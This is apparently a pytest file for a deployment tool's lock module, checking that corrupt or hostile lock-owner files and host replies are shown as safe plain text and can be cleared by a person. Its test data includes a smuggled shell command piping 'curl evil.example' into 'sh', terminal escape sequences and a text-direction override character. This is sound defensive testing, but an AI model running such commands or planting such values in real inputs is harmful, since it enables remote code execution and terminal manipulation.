"""A lock whose owner file is garbage, or made to do harm: it is shown safely, and a person can take it away."""

from __future__ import annotations

import json
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from console.environment import Environment
from console.hosts.base import FenceRefused, HostError, Result
from console.runs import locks
from tests.console.runs.world import FAST, World

GOOD = {"run": "20261124T021455-x-y-3fa9c1", "who": "anna@desk", "pid": 1, "reason": "r", "since": 1.0}


@pytest.fixture
def here(tmp_path: Path) -> Iterator[Environment]:
    with World(tmp_path).environment() as environment:
        yield environment


def _lock(environment: Environment, text: str, *, old: bool = True) -> None:
    """A lock with this owner file; `old`: not beaten for longer than a lock lives."""
    import os

    owner = locks.Owner("first", "x@y", 1, "r", 1.0)
    locks.take(environment.first_host, environment.directory, owner, FAST, environment="here")
    folder = Path(environment.directory) / ".quarterdeck" / "lock"
    (folder / "owner.json").write_text(text)
    if old:
        os.utime(folder / "beat", (1, 1))


@pytest.mark.parametrize(
    "changed",
    [
        {"since": 1e300},
        {"since": -5},
        {"since": "NaN"},
        {"pid": 1e400},
        {"run": "x; curl evil.example | sh"},
        {"run": "--help"},
        {"who": "\x1b]52;c;aGk=\x07anna\u202e"},
        {"reason": "a\nb\x9b2J" + "x" * 5000},
        {"title": ["x"]},
        {"token": '"'},
    ],
)
def test_a_hostile_owner_is_a_plain_sentence(changed: dict[str, Any]) -> None:
    owner = locks.Owner.of(json.dumps({**GOOD, **changed}))
    error = locks.LockHeld("production", locks.Held("web1", owner, 3.0, dead=True))
    said = "\n".join((str(error), *error.ways_out))
    assert all(char.isprintable() or char == "\n" for char in said) and "\u202e" not in said
    assert "curl" not in said and len(said) < 2000
    assert not any("resume --" in way for way in error.ways_out)


@pytest.mark.parametrize("text", ["", "[]", "null", "{", "[" * 100_000, '{"run":1}'])
def test_an_unreadable_owner_is_somebody(text: str) -> None:
    owner = locks.Owner.of(text)
    assert owner.who == locks.UNREADABLE and owner.kind == "person" and not owner.gone


@pytest.mark.parametrize("text", ["", "\x00\x01", "{torn"])
def test_a_person_can_take_an_unreadable_lock_away_once_it_is_dead(here: Environment, text: str) -> None:
    _lock(here, text)
    held = locks.look(here.first_host, here.directory, FAST)
    assert held is not None and held.owner.who == locks.UNREADABLE
    me = locks.Owner("person-me", "me@here", 1, "mending", 1.0, kind="person")
    with pytest.raises(locks.LockHeld):  # nobody gets it by merely asking for it
        locks.take(here.first_host, here.directory, me, FAST, environment="here")
    got = locks.seize(here.first_host, here.directory, me, held, FAST, environment="here")
    assert locks.release(here.first_host, here.directory, me.run, got.fence)
    assert locks.look(here.first_host, here.directory, FAST) is None


def test_an_unreadable_lock_that_is_beaten_stays(here: Environment) -> None:
    _lock(here, "{torn", old=False)
    held = locks.look(here.first_host, here.directory, FAST)
    me = locks.Owner("person-me", "me@here", 1, "mending", 1.0, kind="person")
    assert held is not None
    with pytest.raises(locks.LockHeld):
        locks.seize(here.first_host, here.directory, me, held, FAST, environment="here")


def test_a_readable_lock_is_not_taken_for_an_unreadable_one(here: Environment) -> None:
    anna = locks.Owner("person-anna", "anna@desk", 1, "hers", 1.0, kind="person")
    _lock(here, "")
    unreadable = locks.look(here.first_host, here.directory, FAST)
    (Path(here.directory) / ".quarterdeck" / "lock" / "owner.json").write_text(anna.line() + "\n")
    me = locks.Owner("person-me", "me@here", 1, "mending", 1.0, kind="person")
    assert unreadable is not None
    with pytest.raises(locks.LockHeld, match="anna@desk"):
        locks.seize(here.first_host, here.directory, me, unreadable, FAST, environment="here")


@pytest.mark.parametrize("said", ["", "held", "held x\n{}", "taken", "taken 1", "dead 9e999\n{}", "\x1b[2Jheld"])
def test_a_host_that_answers_nonsense_is_a_sentence(
    here: Environment, monkeypatch: pytest.MonkeyPatch, said: str
) -> None:
    answer = Result(0, said.encode(), b"\x1b[31mno\x07", "exited", 0.0)
    monkeypatch.setattr(type(here.first_host), "script", lambda *a, **k: answer)
    owner = locks.Owner("first", "x@y", 1, "r", 1.0)
    with pytest.raises(HostError) as taking:
        locks.take(here.first_host, here.directory, owner, FAST, environment="here")
    with pytest.raises(HostError) as looking:
        locks.look(here.first_host, here.directory, FAST)
    assert "\x1b" not in f"{taking.value}{looking.value}"


@pytest.mark.parametrize("garbage", ["", "x y", "-1 a", "99999999999999999999999 a", "1\n2\n3"])
def test_a_garbled_fence_lets_nothing_through_or_counts_on(here: Environment, garbage: str) -> None:
    owner = locks.Owner("first", "x@y", 1, "r", 1.0)
    got = locks.take(here.first_host, here.directory, owner, FAST, environment="here")
    fence = Path(here.directory) / ".quarterdeck" / "fence"
    assert fence.read_text().strip() == got.fence  # control: it was whole
    fence.write_text(garbage)
    with pytest.raises(HostError):
        locks.beat(here.first_host, here.directory, "first", got.fence)


def test_the_last_records_are_there_before_the_lock_goes_and_somebody_elses_stay_as_they_are(here: Environment) -> None:
    host, directory = here.first_host, here.directory
    me = locks.Owner("20261124T021455-deploy-here-00000a", "me@here", 1, "", 1.0)
    got = locks.take(host, directory, me, FAST, environment="here")
    locks.append_records(host, directory, me.run, got.fence, ['{"n":1}'])
    with pytest.raises(FenceRefused):
        locks.release(host, directory, me.run, "1 somebody", ['{"n":2}'])
    assert locks.read_records(host, directory, me.run) == '{"n":1}\n'
    assert locks.release(host, directory, me.run, got.fence, ['{"n":2}', '{"n":3}'])
    assert locks.read_records(host, directory, me.run) == '{"n":1}\n{"n":2}\n{"n":3}\n'
    assert locks.look(host, directory, FAST) is None


@pytest.mark.parametrize("name", ["append", "release"])
def test_who_is_stopped_while_it_sends_records_does_not_hold_the_mutex(here: Environment, name: str) -> None:
    """The script waits for the rest of its input; meanwhile somebody else gets the mutex."""
    me = locks.Owner("20261124T021455-deploy-here-00000a", "me@here", 1, "", 1.0)
    got = locks.take(here.first_host, here.directory, me, FAST, environment="here")
    words = ["sh", "-c", locks.script(name), "x", here.directory, me.run, got.fence, "records"]
    child = subprocess.Popen(words, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    assert child.stdin is not None
    child.stdin.write(b'{"n":1}')
    child.stdin.flush()
    mutex = Path(here.directory) / ".quarterdeck" / "mutex"
    try:
        for _ in range(3):
            time.sleep(0.1)
            assert subprocess.run(["flock", "-x", "-n", str(mutex), "true"], check=False).returncode == 0
    finally:
        child.stdin.close()
        child.wait(20)
